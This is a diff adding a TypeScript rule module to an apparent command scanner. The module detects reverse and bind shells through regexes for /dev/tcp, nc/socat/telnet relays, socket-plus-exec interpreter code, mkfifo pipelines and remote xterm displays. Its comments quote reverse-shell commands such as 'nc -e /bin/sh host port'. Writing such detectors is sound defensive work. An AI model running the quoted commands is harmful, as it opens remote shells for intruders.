@@ -1,0 +1,104 @@
+/** Reverse and bind shells: a shell whose input and output are a network connection. */
+import { excerpt, SENSITIVE_FILE, SHELL_NAMES, SHELL_PATH } from '../patterns.js';
+import { baseName } from '../shell-parse.js';
+import { invocationsOf, type Invocation, type Subject } from '../subject.js';
+import type { Evidence } from '../types.js';
+import type { Rule } from './rule.js';
+
+/** Bash's /dev/tcp pseudo-device with a literal port (a `$port` variable is a scan, see suspicious-network). */
+const DEV_TCP = /\/dev\/(?:tcp|udp)\/[^\s/]+\/\d+/;
+/**
+ * What turns a /dev/tcp connection into a shell: an interactive shell, a read-write descriptor, standard streams
+ * duplicated onto it, a read-eval loop. A bare `echo > /dev/tcp/h/p` is a port check.
+ */
+const DUPLEX = /<>|[<>]&\s*\d|&>|\s-i\b|\bwhile\s+read\b/;
+/** Tools that move bytes between a socket and a process. */
+export const NETWORK_RELAYS = ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'socat', 'socket', 'telnet', 'openssl', 'cryptcat', 'pwncat'];
+/** Scripting APIs that open a TCP connection or listener. */
+const SOCKET_API = new RegExp([
+  String.raw`socket\.socket\s*\(`, String.raw`\bsocket\.tcp\s*\(`, String.raw`require\s*\(?\s*["']socket["']`, String.raw`fsockopen\s*\(`,
+  String.raw`TCPSocket\.(?:new|open)`, String.raw`IO::Socket`, String.raw`java\.net\.Socket`, String.raw`/inet/tcp/`, String.raw`\bnet\.(?:connect|createConnection)\s*\(`,
+  String.raw`new\s+net\.Socket`, String.raw`\bnet\.Dial\s*\(`, String.raw`\bSocket\.tcp\s*\(`, String.raw`\bztcp\b`, String.raw`(?:^|\s)-rsocket\b`, String.raw`\.connect\s*\(\s*\(\s*["'][\w.:-]+["']\s*,\s*\d+`, String.raw`\bsocket\s*\(\s*\w+\s*,\s*PF_INET`,
+].join('|'));
+/** Scripting APIs that run a shell or another program, or wire descriptors to one. */
+const PROCESS_API = /\/bin\/(?:ba|da|z)?sh\b|pty\.spawn|os\.dup2|subprocess\.|child_process|\bpopen\b|ProcessBuilder|Process\.new|os\.execute|\bexec\s*[("]|\bsystem\b|\bspawn\s*\(|proc_open|passthru|shell_exec|getline/;
+
+const devTcpShell: Rule = {
+  name: 'reverse-shell-dev-tcp',
+  category: 'reverse_shell',
+  severity: 'critical',
+  match: (s) => {
+    const socket = excerpt(s.text, DEV_TCP);
+    // Sending a credential file down /dev/tcp is exfiltration; that rule reports it.
+    if (socket === undefined || SENSITIVE_FILE.test(s.text)) return undefined;
+    const wiring = excerpt(s.text, DUPLEX);
+    return wiring === undefined ? undefined : { socket, wiring: wiring.trim() };
+  },
+};
+
+/** `nc -e /bin/sh host port`, `socat ... exec:/bin/sh`, `socket -svp '/bin/sh -i' 53`. */
+const relayRunsShell: Rule = {
+  name: 'reverse-shell-relay-exec',
+  category: 'reverse_shell',
+  severity: 'critical',
+  match: (s) => {
+    for (const inv of networkRelays(s)) {
+      const shell = inv.args.find(isShellCommand);
+      if (shell !== undefined) return { tool: inv.program, shell: shell.slice(0, 120) };
+    }
+    return undefined;
+  },
+};
+
+/** `mkfifo f; nc host port <f | /bin/sh >f`, `telnet h p | /bin/sh | telnet h p2`: a shell fed by a network client. */
+const shellPipedToNetwork: Rule = {
+  name: 'reverse-shell-pipe',
+  category: 'reverse_shell',
+  severity: 'critical',
+  match: (s): Evidence | undefined => {
+    const relay = networkRelays(s).find((inv) => inv.args.length > 0);
+    const shell = s.invocations.find((inv) => SHELL_NAMES.has(inv.program) && (inv.command.pipedFrom || inv.command.redirects.some((r) => r.op === '<')));
+    if (relay && shell) return { tool: relay.program, shell: shell.path };
+    // The same idiom nested in another program's argument (`sqlite3 /dev/null '.shell mkfifo ...'`).
+    const fifo = excerpt(s.text, /\bmk(?:fifo|nod)\b.*\|\s*(?:\/bin\/)?(?:ba)?sh\b.*\b(?:nc|ncat|netcat|telnet|s_client)\b|\bmk(?:fifo|nod)\b.*\b(?:nc|ncat|netcat|telnet|s_client)\b.*\|\s*(?:\/bin\/)?(?:ba)?sh\b/);
+    return fifo === undefined ? undefined : { pipeline: fifo };
+  },
+};
+
+/** Inline interpreter code that opens a socket and hands it to a shell or command runner. */
+const interpreterSocketShell: Rule = {
+  name: 'reverse-shell-interpreter',
+  category: 'reverse_shell',
+  severity: 'critical',
+  match: (s) => {
+    const socket = excerpt(s.text, SOCKET_API, 80);
+    const process = excerpt(s.text, PROCESS_API, 80);
+    if (socket === undefined || process === undefined || SENSITIVE_FILE.test(s.text)) return undefined;
+    return { socketApi: socket, processApi: process };
+  },
+};
+
+/** Invocations of socket relays; openssl only as the `s_client` TLS client. */
+export function networkRelays(s: Subject): Invocation[] {
+  return invocationsOf(s, ...NETWORK_RELAYS).filter((inv) => inv.program !== 'openssl' || inv.args[0] === 's_client');
+}
+
+/** `/bin/sh`, `bash`, `sh -i`, `exec:/bin/bash,pty`: an argument that names a shell to run. */
+function isShellCommand(arg: string): boolean {
+  if (SHELL_PATH.test(arg)) return true;
+  const first = arg.replace(/^(?:exec|system):/i, '').split(/[\s,]+/)[0];
+  return SHELL_NAMES.has(baseName(first));
+}
+
+/** `xterm -display attacker:1`: a terminal drawn on a remote X server. */
+const remoteXterm: Rule = {
+  name: 'reverse-shell-remote-display',
+  category: 'reverse_shell',
+  severity: 'high',
+  match: (s) => {
+    const display = excerpt(s.text, /\bxterm\b.*\s-display\s+[\w.-]+:\d+/);
+    return display === undefined || /-display\s+(?:localhost|127\.0\.0\.1|):/.test(display) ? undefined : { display };
+  },
+};
+
+export const REVERSE_SHELL_RULES: readonly Rule[] = [devTcpShell, relayRunsShell, shellPipedToNetwork, interpreterSocketShell, remoteXterm];
